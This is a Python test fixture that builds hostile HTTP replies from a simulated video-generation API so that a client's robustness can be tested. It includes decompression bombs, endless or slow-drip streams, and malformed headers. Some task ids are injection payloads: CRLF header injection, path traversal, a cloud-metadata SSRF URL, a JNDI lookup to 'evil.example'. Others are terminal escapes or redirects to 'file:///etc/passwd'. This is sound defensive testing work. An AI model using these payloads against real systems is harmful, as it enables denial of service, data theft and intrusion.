"""What a hostile provider may say to a request, in bodies and in the bytes around them."""

from __future__ import annotations

import gzip
import json
import socket
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress

from tests.support.rawserver import Answer, http

JSON = "Content-Type: application/json"
TASK = {"id": "video_1", "object": "video", "model": "sora-2", "status": "in_progress", "progress": 7, "created_at": 1}


def task(**members: object) -> bytes:
    """Return a task with some members of its own."""
    return json.dumps({**TASK, **members}).encode()


def inserted(member: str, value: bytes) -> bytes:
    """Return a task in which one member is bytes that no encoder would write."""
    return task(**{member: "@@"}).replace(b'"@@"', value)


MEGABYTE = 1_000_000
DEEP = b"[" * 100_000 + b"]" * 100_000

BODIES: dict[str, bytes] = {
    "100,000 arrays deep": DEEP,
    "100,000 arrays that never end": b"[" * 100_000,
    "100,000 objects deep": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "a status 100,000 deep": inserted("status", DEEP),
    "a million members": b"{" + b",".join(b'"k%d":0' % n for n in range(MEGABYTE)) + b"}",
    "a million members in a megabyte": b"{" + b",".join(b'"%x":0' % n for n in range(100_000)) + b"}",
    "a million items": b"[" + b"0," * (MEGABYTE - 1) + b"0]",
    "a megabyte of empty arrays": b'{"status": [' + b"[]," * 330_000 + b"[]]}",
    "a megabyte of empty objects": b'{"status": [' + b"{}," * 330_000 + b"{}]}",
    "a status of a megabyte": task(status="x" * MEGABYTE),
    "an id of a megabyte": task(id="x" * MEGABYTE),
    "a member name of a megabyte": task(**{"x" * MEGABYTE: 1}),
    "invalid UTF-8": inserted("status", b'"\xff\xfe"'),
    "a byte order mark": b"\xef\xbb\xbf" + task(),
    "UTF-16": task().decode().encode("utf-16"),
    "NaN": inserted("progress", b"NaN"),
    "Infinity": inserted("progress", b"-Infinity"),
    "a number beyond binary64": inserted("progress", b"1e999"),
    "10,000 digits": inserted("created_at", b"9" * 10_000),
    "a megabyte of digits": inserted("created_at", b"9" * MEGABYTE),
    "a member twice": inserted("status", b'"queued", "status": "completed"'),
    "a lone surrogate": inserted("status", b'"\\ud800"'),
    "a lone surrogate as a name": b'{"\\udfff": 1, ' + task()[1:],
    "NUL": inserted("status", b'"a\\u0000b"'),
    "NUL bytes": b"\0" * 1000,
    "escapes for a terminal": task(status="\x1b[31m\x1b]0;title\x07\x1b[2J", id="\x1b]8;;http://evil.example\x07"),
    "an id of lines": task(id="video_1\r\nX-Injected: yes\r\n\r\nGET /admin HTTP/1.1"),
    "an id that climbs": task(id="../../admin"),
    "an id of dots": task(id=".."),
    "an id that is an address": task(id="http://169.254.169.254/latest/meta-data"),
    "an id with a query": task(id="x?admin=1#y"),
    "an id for a format string": task(id="%s%n{0.__class__}${jndi:ldap://evil.example/x}"),
    "an id of every character": task(id="".join(map(chr, range(1, 300)))),
    "a bomb for regular expressions": task(id="video_" + "a" * 200_000 + "!", progress="9" * 200_000 + "x%"),
    "times that are none": task(created_at=10**300, completed_at=-(10**300), expires_at="9" * 4000),
    "a text": b'"queued"',
    "null": b"null",
    "an array of tasks": b"[" + task() + b"]",
    "names of Python": task(__class__="x", __proto__={}, status="__import__('os')"),
}


def raw_deflate() -> tuple[bytes, bytes]:
    """Return a deflated megabyte of nothing that may be said again and again, and what ends them."""
    deflating = zlib.compressobj(wbits=-zlib.MAX_WBITS)
    block = deflating.compress(bytes(1 << 20)) + deflating.flush(zlib.Z_FULL_FLUSH)
    return block, deflating.flush()


def bomb(coding: str) -> bytes:
    """Return a gigabyte of nothing, coded."""
    block, end = raw_deflate()
    start = {"gzip": gzip.compress(b"", mtime=0)[:10], "deflate": b"\x78\x9c"}[coding]
    return start + block * 1024 + end


def say(start: bytes, more: Callable[[], Iterator[bytes]]) -> Callable[[socket.socket], None]:
    """Return an answer that goes on for as long as somebody listens."""

    def answer(connection: socket.socket) -> None:
        # Whoever closed may leave it waiting.
        connection.settimeout(1.0)
        with suppress(OSError):
            connection.sendall(start)
            for piece in more():
                connection.sendall(piece)

    return answer


def for_ever(piece: bytes) -> Callable[[], Iterator[bytes]]:
    """Return what says one thing without end."""

    def pieces() -> Iterator[bytes]:
        while True:
            yield piece

    return pieces


def drop_by_drop(piece: bytes) -> Callable[[], Iterator[bytes]]:
    """Return what says one thing now and then, always in time for a single read."""

    def pieces() -> Iterator[bytes]:
        import time

        for _ in range(400):
            time.sleep(0.05)
            yield piece
        raise AssertionError("it was listened to for ever")

    return pieces


def gigabyte() -> Iterator[bytes]:
    """Yield a gigabyte without ever holding it."""
    return (b"x" * 65536 for _ in range(16_384))


CHUNKED = http(200, b"", JSON, "Transfer-Encoding: chunked", length=False)
OPEN = http(200, b"", JSON, length=False)
HEAD = b"HTTP/1.1 200 OK\r\n"


def of_length(length: str, body: bytes = b"") -> bytes:
    """Return a reply that says another length than it has."""
    return http(200, body, JSON, f"Content-Length: {length}", length=False)


def redirect(location: str, status: int = 302) -> bytes:
    """Return a redirect."""
    return http(status, b"", f"Location: {location}")


FRAMES: dict[str, Answer] = {
    "a gzip bomb": http(200, bomb("gzip"), JSON, "Content-Encoding: gzip"),
    "a deflate bomb": http(200, bomb("deflate"), JSON, "Content-Encoding: deflate"),
    "a bomb in a bomb": http(200, gzip.compress(bomb("gzip"), 1), JSON, "Content-Encoding: gzip, gzip"),
    "a bomb named twice": http(200, bomb("gzip"), JSON, "Content-Encoding: gzip", "Content-Encoding: gzip"),
    "brotli that is none": http(200, task(), JSON, "Content-Encoding: br"),
    "zstd that is none": http(200, b"\x28\xb5\x2f\xfd" + b"\xff" * 64, JSON, "Content-Encoding: zstd"),
    "1 GB with its length": say(of_length(str(1 << 30)), gigabyte),
    "1 GB until the end": say(OPEN, gigabyte),
    "chunks without end": say(CHUNKED, for_ever(b"10000\r\n" + b"x" * 65536 + b"\r\n")),
    "chunks of a byte without end": say(CHUNKED, for_ever(b"1\r\nx\r\n" * 1000)),
    "a chunk size without end": say(CHUNKED, for_ever(b"0" * 65536)),
    "a chunk extension without end": say(CHUNKED + b"5;", for_ever(b"x" * 65536)),
    "a chunk of all memory": CHUNKED + b"ffffffffffffffff\r\nx",
    "trailers without end": say(CHUNKED + b"0\r\n", for_ever(b"X: y\r\n" * 1000)),
    "a header without end": say(HEAD + b"X: ", for_ever(b"y" * 65536)),
    "headers without end": say(HEAD, for_ever(b"X: y\r\n" * 10_000)),
    "a status line without end": say(b"HTTP/1.1 200 ", for_ever(b"O" * 65536)),
    "ten thousand headers": http(200, task(), JSON, *(f"X-{n}: {n}" for n in range(10_000))),
    "a header of 90 KB": http(200, task(), JSON, "X: " + "y" * 90_000),
    "interim replies without end": say(b"", for_ever(b"HTTP/1.1 103 Early Hints\r\n\r\n" * 1000)),
    "100 Continue without end": say(b"", for_ever(b"HTTP/1.1 100 Continue\r\n\r\n" * 1000)),
    "a head drop by drop": say(HEAD, drop_by_drop(b"X: y\r\n")),
    "a body drop by drop": say(of_length("9999"), drop_by_drop(b" ")),
    "a length too long": of_length("99999", task()),
    "a length too short": of_length("9", task()),
    "a length below nothing": of_length("-1", task()),
    "a length of no number": of_length("many", task()),
    "a length of 5,000 digits": of_length("9" * 5000, task()),
    "two lengths": http(200, task(), JSON, "Content-Length: 3", "Content-Length: 4", length=False),
    "a length and chunks": http(200, b"2\r\n{}\r\n0\r\n\r\n", JSON, "Content-Length: 2", "Transfer-Encoding: chunked"),
    "closed in the body": of_length("999", task()),
    "closed in the head": HEAD + b"Content-Ty",
    "closed at once": b"",
    "HTTP/1.0": http(200, task(), JSON, length=False).replace(b"1.1", b"1.0"),
    "HTTP/0.9": task(),
    "HTTP/3": http(200, task(), JSON).replace(b"HTTP/1.1", b"HTTP/3"),
    "lines that end in LF": http(200, task(), JSON).replace(b"\r\n", b"\n"),
    "a header folded": http(200, task(), "X: a\r\n b", JSON),
    "a header with NUL": http(200, task(), JSON, "X: a\0b"),
    "a header without a name": http(200, task(), ": x", JSON),
    "100 and then the task": b"HTTP/1.1 100 Continue\r\n\r\n" + http(200, task(), JSON),
    "101": http(101, b"", "Upgrade: websocket", "Connection: Upgrade"),
    "an empty 200": http(200, b"", JSON),
    "204 with a body": http(204, task(), JSON),
    "205": http(205, b"", JSON),
    "304 with a body": http(304, task(), JSON),
    "999": http(999, task(), JSON),
    "42": http(42, task(), JSON),
    "1000": http(1000, task(), JSON),
    "redirects in a ring": redirect("/again"),
    "a redirect to a file": redirect("file:///etc/passwd"),
    "a redirect to a script": redirect("javascript:alert(1)"),
    "a redirect with a user": redirect("http://user:password@127.0.0.1:1/x"),
    "a redirect to a name that is none": redirect("http://vendor.invalid/x"),
    "a redirect of a megabyte": redirect("/" + "x" * 60_000),
    "a redirect to nowhere": redirect("http://[::1"),
    "cookies": http(200, task(), JSON, *(f"Set-Cookie: c{n}={'x' * 400}; Path=/" for n in range(100))),
    "a type without end": http(200, task(), "Content-Type: " + "a/" * 20_000),
    "a type that climbs": http(200, task(), "Content-Type: ../../x; charset=\x1b[31m"),
    "a reason for a terminal": b"HTTP/1.1 200 \x1b[31mred\r\n" + http(200, task(), JSON)[17:],
    "a wait of no sense": http(429, b"", "Retry-After: -1e999"),
    "a wait for ever": http(503, b"", "Retry-After: 99999999999"),
}  # fmt: skip


ANSWERS: dict[str, Answer] = {
    **{name: http(200, body, JSON) for name, body in BODIES.items()},
    **FRAMES,
}
"""All of them as answers of a server."""
